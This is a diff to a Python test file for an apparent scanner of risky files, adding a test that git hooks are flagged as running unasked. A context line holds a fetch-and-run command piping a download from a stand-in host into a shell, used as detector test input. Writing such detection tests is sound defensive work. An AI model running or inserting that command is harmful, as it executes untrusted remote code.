@@ -68,6 +68,13 @@ def test_comments_of_batch_files() -> None:
     assert "fetched-and-run" in rules("# & curl http://planted.example/x | sh\n", "a.bat")
 
 
+def test_hooks_of_git_run_unasked() -> None:
+    planted = scan_bytes(b"#!/bin/sh\necho planted\n", ".git/hooks/post-checkout")
+    assert [finding.rule for finding in planted.findings] == ["script/runs-unasked"]
+    of_lfs = b'#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs pre-push "$@"\n'
+    assert scan_bytes(of_lfs, ".git/hooks/pre-push").verdict == "review"
+
+
 def test_source_code_is_only_noted() -> None:
     result = scan_bytes(b"int main() { return system(0); }\n", "a.c")
     assert (result.format, result.verdict) == ("source-code", "clean")
